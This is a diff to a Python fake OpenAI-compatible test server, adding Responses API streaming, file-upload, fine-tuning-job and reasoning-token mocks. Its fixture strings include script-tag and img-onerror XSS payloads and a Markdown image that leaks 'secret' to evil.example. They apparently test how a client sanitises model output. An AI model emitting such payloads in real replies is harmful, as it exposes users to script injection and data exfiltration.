@@ -9,9 +9,18 @@ The requested *model name* picks the behaviour:
 - ``echo``: streams ``REPLY`` in a few chunks without usage (like llama.cpp's server);
 - ``echo-usage``: the same, with a final usage chunk (like OpenAI with include_usage);
 - ``endless`` streams text without end, ignoring max_tokens; ``trickle`` sends empty chunks without end;
-- ``html``: streams ``HTML_REPLY``; ``image``: streams ``IMAGE_REPLY`` (a Markdown image and an HTML one).
+- ``html``: streams ``HTML_REPLY``; ``image``: streams ``IMAGE_REPLY`` (a Markdown image and an HTML one);
+- ``gpt-6…``, ``gpt-5…``, ``o3…``: ``REPLY`` with a usage that counts ``REASONING_TOKENS`` reasoning tokens.
 
-Every request's Authorization header, all headers, path and JSON body are recorded in ``FakeServer.requests``.
+Besides Chat Completions (any other path) it speaks, minimally:
+
+- ``/v1/responses`` (the Responses API): ``REPLY`` as output text, streamed as ``response.*`` events when
+  ``stream`` is true, with a usage that counts ``REASONING_TOKENS`` reasoning tokens;
+- ``/v1/files`` (an upload: a file object) and ``/v1/fine_tuning/jobs`` (a job, or the error set in
+  ``FakeServer.job_error``, e.g. ``(403, "training_not_available")``).
+
+Every request's Authorization header, all headers, path and JSON body are recorded in ``FakeServer.requests``
+(an upload's body is recorded as ``{"bytes": <size>}``).
 """
 
 from __future__ import annotations
@@ -28,6 +37,14 @@ HTML_REPLY = ["<script>alert('x')</script>", " <b>bold</b>"]
 IMAGE_REPLY = ["Here: ![chart](http://evil.example/px.png?d=", "secret) and <img src=x onerror=alert(1)>"]
 USAGE = {"prompt_tokens": 11, "completion_tokens": 4, "total_tokens": 15}
 SLOW_S = 3.0
+REASONING_TOKENS = 7
+RESPONSES_USAGE = {
+    "input_tokens": 11,
+    "input_tokens_details": {"cached_tokens": 0},
+    "output_tokens": 4 + REASONING_TOKENS,
+    "output_tokens_details": {"reasoning_tokens": REASONING_TOKENS},
+    "total_tokens": 15 + REASONING_TOKENS,
+}
 
 
 @dataclass
@@ -42,6 +59,7 @@ class Recorded:
 class FakeServer:
     server: ThreadingHTTPServer
     requests: list[Recorded] = field(default_factory=list)
+    job_error: tuple[int, str] | None = None  # what /v1/fine_tuning/jobs answers instead of a job
 
     @property
     def url(self) -> str:
@@ -96,11 +114,65 @@ def start(port: int = 0) -> FakeServer:
         def do_GET(self) -> None:
             self._json(200, {"object": "list", "data": [{"id": "echo", "object": "model"}]})
 
+        def _events(self, events: list[tuple[str, dict[str, Any]]]) -> None:
+            self.send_response(200)
+            self.send_header("Content-Type", "text/event-stream")
+            self.end_headers()
+            for name, data in events:
+                self.wfile.write(f"event: {name}\ndata: {json.dumps({'type': name, **data})}\n\n".encode())
+                self.wfile.flush()
+
+        def _responses(self, body: dict[str, Any]) -> None:
+            model = str(body.get("model", ""))
+            text = "".join(REPLY)
+            message = {"type": "message", "id": "msg-fake", "status": "completed", "role": "assistant",
+                       "content": [{"type": "output_text", "text": text, "annotations": []}]}  # fmt: skip
+            done = {"id": "resp-fake", "object": "response", "created_at": 0, "status": "completed",
+                    "model": model, "output": [message], "usage": RESPONSES_USAGE,
+                    "parallel_tool_calls": True, "tool_choice": "auto", "tools": []}  # fmt: skip
+            if not body.get("stream"):
+                self._json(200, done)
+                return
+            started = {**done, "status": "in_progress", "output": [], "usage": None}
+            events = [("response.created", {"response": started, "sequence_number": 0})]
+            events += [
+                ("response.output_text.delta",
+                 {"item_id": "msg-fake", "output_index": 0, "content_index": 0, "delta": piece,
+                  "sequence_number": i + 1, "logprobs": []})
+                for i, piece in enumerate(REPLY)
+            ]  # fmt: skip
+            events.append(("response.completed", {"response": done, "sequence_number": len(REPLY) + 1}))
+            self._events(events)
+
+        def _job(self) -> None:
+            if fake.job_error is not None:
+                status, code = fake.job_error
+                self._json(status, {"error": {"message": f"fake {code}", "type": "fake", "code": code}})
+                return
+            self._json(200, {"id": "ftjob-fake", "object": "fine_tuning.job", "created_at": 0,
+                             "error": None, "fine_tuned_model": None, "finished_at": None,
+                             "hyperparameters": {"n_epochs": 3}, "model": "m", "organization_id": "org",
+                             "result_files": [], "seed": 1, "status": "validating_files",
+                             "trained_tokens": None, "training_file": "file-fake",
+                             "validation_file": None})  # fmt: skip
+
         def do_POST(self) -> None:
             length = int(self.headers.get("Content-Length", "0"))
-            body = json.loads(self.rfile.read(length) or b"{}")
+            raw = self.rfile.read(length)
             headers = {name.lower(): value for name, value in self.headers.items()}
+            if self.path.endswith("/files"):
+                fake.requests.append(
+                    Recorded(self.headers.get("Authorization"), {"bytes": length}, headers, self.path)
+                )
+                self._json(200, {"id": "file-fake", "object": "file", "bytes": length, "created_at": 0,
+                                 "filename": "f.jsonl", "purpose": "fine-tune",
+                                 "status": "uploaded"})  # fmt: skip
+                return
+            body = json.loads(raw or b"{}")
             fake.requests.append(Recorded(self.headers.get("Authorization"), body, headers, self.path))
+            if self.path.endswith("/fine_tuning/jobs"):
+                self._job()
+                return
             model = str(body.get("model", ""))
             if model.startswith(("status-", "quota-")):
                 _, number, *rest = model.split("-", 2)
@@ -110,12 +182,23 @@ def start(port: int = 0) -> FakeServer:
                 return
             if model == "slow":
                 time.sleep(SLOW_S)
+            if self.path.endswith("/responses"):
+                self._responses(body)
+                return
             pieces = {"html": HTML_REPLY, "image": IMAGE_REPLY}.get(model, REPLY)
             events = [_chunk(model, {"role": "assistant"})]
             events += [_chunk(model, {"content": p}) for p in pieces]
             events.append(_chunk(model, {}, "stop"))
             if model == "echo-usage":
                 events.append({**_chunk(model, {}), "choices": [], "usage": USAGE})
+            if model.startswith(("gpt-6", "gpt-5", "o3")):  # reasoning models report their reasoning tokens
+                details = {"reasoning_tokens": REASONING_TOKENS}
+                usage = {
+                    **USAGE,
+                    "completion_tokens": 4 + REASONING_TOKENS,
+                    "completion_tokens_details": details,
+                }
+                events.append({**_chunk(model, {}), "choices": [], "usage": usage})
             if model in ("endless", "trickle"):
                 self._forever(model)
                 return
